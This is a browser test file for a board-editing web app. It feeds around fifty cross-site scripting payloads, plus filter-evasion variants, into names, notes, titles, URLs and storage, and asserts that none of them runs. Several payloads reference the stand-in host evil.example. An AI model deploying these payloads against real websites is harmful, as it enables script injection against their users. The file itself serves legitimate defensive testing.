// Hostile texts wherever a text may come from: they are shown as they are, and never run. With the policy, and without.
import assert from "node:assert/strict";
import { forEach, journey } from "./lib.mjs";
import { count, say } from "./figures.mjs";
import { dialog, fileMenu, names, openFile, running, saved, savedBoard, shareLink, until } from "./steps.mjs";

/** Sets a mark when it runs; `§` stands for it. */
const FIRE = "window.__fired=(window.__fired||0)+1";
const KERNELS = [
  "<script>§</script>",
  "<ScRiPt>§</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "</script><script>§</script>",
  "<img src=x onerror='§'>",
  "<img src=\"x\" onerror=\"§\">",
  "<image href=x onerror='§'/>",
  "<svg onload='§'>",
  "<svg><script>§</script></svg>",
  "<svg><animate onbegin='§' attributeName=x dur=1s>",
  "<svg><a href='javascript:§'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=§ />#x'/></svg>",
  "</text></svg><img src=x onerror='§'>",
  "</title><script>§</script>",
  "</textarea><script>§</script>",
  "</style><script>§</script>",
  "<math><mtext><table><mglyph><style><img src=x onerror='§'>",
  "<iframe srcdoc='<script>parent.§</script>'>",
  "<iframe src='javascript:parent.§'></iframe>",
  "<object data='javascript:§'>",
  "<embed src='javascript:§'>",
  "<a href='javascript:§'>x</a>",
  "<base href='//evil.example/'>",
  "<link rel=stylesheet href='//evil.example/x.css'>",
  "<meta http-equiv=refresh content='0;url=javascript:§'>",
  "<form action='javascript:§'><button autofocus onfocus='§'>x",
  "<input autofocus onfocus='§'>",
  "<details open ontoggle='§'>",
  "<video><source onerror='§'></video>",
  "<body onload='§'>",
  "<style>@import '//evil.example/x.css';</style>",
  "<x style='background:url(//evil.example/x.png)'>",
  "\" onmouseover=\"§\" x=\"",
  "' autofocus onfocus='§' x='",
  "javascript:§",
  "javascript:/*--></title></style></textarea></script><svg/onload='§'>",
  "${§}",
  "{{constructor.constructor('§')()}}",
  "<template><script>§</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=§>'>",
  "<!--><script>§</script>-->",
  "<![CDATA[><script>§</script>]]>",
  "&lt;script&gt;§&lt;/script&gt;",
  "&#60;img src=x onerror=§&#62;",
  "\u003cimg src=x onerror=§\u003e",
  "%3Cscript%3E§%3C/script%3E",
  "＜script＞§＜/script＞",
  "__proto__",
  "constructor",
  "toString",
].map((text) => text.replaceAll("§", FIRE));

/** The same as they would have to look in other places, or past a filter. */
const GUISES = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `--></script></style></textarea></title>${text}`,
  (text) => `${text} `.repeat(2),
  (text) => text.replaceAll(/[<>&"']/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "<\u200b").replaceAll("on", "o\u200bn"),
  (text) => text.replaceAll(/<(\w+)/g, (_, name) => `<${name.toUpperCase()}/`),
  (text) => `]]>*/;}${text}//`,
];
/** As many of them as a board has stations of at most 200 letters. */
const PAYLOADS = GUISES.flatMap((guise) => KERNELS.map(guise))
  .map((text) => [...text].slice(0, 200).join("").trim())
  .slice(0, count(500, 50));

/** These are repaired, so a board that has them does not come back letter by letter. */
const REPAIRED = ["\u202e<script>§</script>", "a\u0000<img src=x onerror='§'>"].map((text) => text.replaceAll("§", FIRE));

const KINDS = ["client", "load_balancer", "web_server", "cache", "sql_leader"];

/** A board whose every text is hostile: title, names, and the places of a damaged file that are quoted in messages. */
const BOARD = {
  format_version: 1,
  title: PAYLOADS[4],
  seed: 1,
  nodes: PAYLOADS.map((name, i) => ({
    id: i + 1,
    kind: KINDS[i % 5],
    name,
    at: [(i % 9) * 240, Math.floor(i / 9) * 160],
  })),
  // users call the four stations after them
  links: PAYLOADS.flatMap((_, i) => (i % 5 ? [{ from: i - (i % 5) + 1, to: i + 1 }] : [])),
  faults: [],
  notes: PAYLOADS.slice(0, 200).map((text, i) => ({ text, at: [(i % 9) * 240, 80 + Math.floor(i / 9) * 160], size: [160, 96] })),
};
const DAMAGED = {
  ...BOARD,
  nodes: [...REPAIRED, ...PAYLOADS].map((text, i) => ({ id: i + 1, kind: i % 2 ? text : "cache", name: text, at: [0, 0], params: { [text]: text, capacity: text } })),
  [PAYLOADS[4]]: PAYLOADS[7],
};

async function nothingRan(page, where) {
  // whatever was to load or to animate has had its chance
  await page.waitForTimeout(120);
  const [fired, foreign, handlers] = await page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const foreign = all.filter((e) => ["IFRAME", "OBJECT", "EMBED", "BASE", "FORM", "VIDEO", "IMG", "STYLE"].includes(e.tagName.toUpperCase()));
    const own = (name) => ["onclick"].includes(name) === false && name.startsWith("on");
    const handlers = all.flatMap((e) => e.getAttributeNames().filter(own));
    return [window.__fired ?? 0, foreign.map((e) => e.outerHTML.slice(0, 120)), handlers];
  });
  assert.equal(fired, 0, `${where}: a payload ran`);
  assert.deepEqual(foreign, [], `${where}: a payload became an element`);
  assert.deepEqual(handlers, [], `${where}: a payload became a handler`);
}

forEach({ bypassCSP: [false, true] }, (situation) => {
  const label = situation.bypassCSP ? "even without the policy" : "under the policy";
  journey(`hostile names are only names, ${label}`, { ...situation, timeout: 120_000 + PAYLOADS.length * 500 }, async (page, { open }) => {
    page.on("dialog", (box) => assert.fail(`a payload said ${box.message()}`));
    await running(page);

    // from a file: on the board, in the charts, in the inspector, in the tab's title
    await openFile(page, BOARD, `${PAYLOADS[0].replaceAll("/", "_")}.json`);
    await until("all stations are there", async () => (await names(page)).length === PAYLOADS.length);
    assert.equal(await dialog(page).count(), 0, "nothing of the board was left out");
    await nothingRan(page, "the board");
    assert.equal(await page.getByTestId("title").inputValue(), PAYLOADS[4]);
    assert.ok((await page.title()).startsWith(PAYLOADS[4]), "the tab shows the title as it is");
    for (const id of [1, 5, 8, 13, 33]) {
      await page.getByTestId(`station-${id}`).focus();
      await page.keyboard.press("Enter");
      await page.getByTestId("inspector").locator(".ins-name").waitFor();
      for (const tab of await page.getByTestId("inspector").getByRole("tab").all()) await tab.click();
    }
    await nothingRan(page, "the inspector");

    // typed in
    const name = page.getByTestId("inspector").locator(".ins-name");
    for (const text of [...PAYLOADS.slice(0, 8), ...REPAIRED]) {
      await name.fill(text);
      await name.press("Enter");
    }
    await page.locator(".pal-search input").fill(PAYLOADS[4]);
    await nothingRan(page, "the fields");
    await page.locator(".pal-search input").fill("");

    // a damaged file quotes what it found
    await openFile(page, DAMAGED);
    await dialog(page).waitFor();
    await nothingRan(page, "the findings");
    await page.keyboard.press("Escape");

    // through a link, through the storage, and from the shelf
    await openFile(page, BOARD);
    const link = await shareLink(page);
    await saved(page);
    const board = (await savedBoard(page)).board;
    await open(link);
    await until("all stations are there", async () => (await names(page)).length === PAYLOADS.length);
    assert.deepEqual((await savedBoard(page)).board.nodes.length, board.nodes.length);
    await fileMenu(page, "keptBoards");
    await nothingRan(page, "the shelf");
    await page.keyboard.press("Escape");
    await page.reload();
    await running(page);
    await nothingRan(page, "the board of the last visit");
    say(13, `${PAYLOADS.length} hostile texts as names, notes, titles and files, ${label}: 0 ran, 0 requests to elsewhere`);
    if (situation.bypassCSP) {
      // the journey can fail: without the policy a payload that becomes an element does run
      await page.evaluate((html) => document.body.insertAdjacentHTML("beforeend", html), PAYLOADS[4].replace("=x ", "=data:, "));
      await until("the trap is seen", async () => (await page.evaluate(() => window.__fired)) > 0);
    }
  });

  journey(`hostile addresses and settings do nothing, ${label}`, { ...situation, path: null, timeout: 120_000 + PAYLOADS.length * 500, allow: [/404/] }, async (page, { open }) => {
    page.on("dialog", (box) => assert.fail(`a payload said ${box.message()}`));
    await open(`?lang=${encodeURIComponent(PAYLOADS[4])}#/`);
    for (const text of PAYLOADS) await page.evaluate((hash) => (location.hash = hash), `#/${text}`);
    // pages that are large take their time: some of the texts each
    for (const text of PAYLOADS.filter((_, i) => i % 9 === 4)) {
      for (const where of ["#/lesson/", "#/lab/", "#/lesson/load-balancing-algorithms/"]) {
        await page.evaluate((hash) => (location.hash = hash), where + text);
        await page.evaluate((hash) => (location.hash = hash), where + encodeURIComponent(text));
      }
      await nothingRan(page, text);
    }
    await nothingRan(page, "the address");
    await page.evaluate((all) => {
      for (const key of ["escala/lang", "escala/theme", "escala.lab.1", "escala/sandbox/a", "escala/sandbox/b", "escala/progress", "escala/shelf/x"]) {
        localStorage.setItem(key, all[key.length % all.length]);
      }
    }, PAYLOADS);
    await open("#/");
    await page.reload();
    await running(page);
    await nothingRan(page, "the storage");
    say(13, `${PAYLOADS.length} hostile texts in addresses, settings and storage, ${label}: 0 ran, 0 requests to elsewhere`);
  });
});
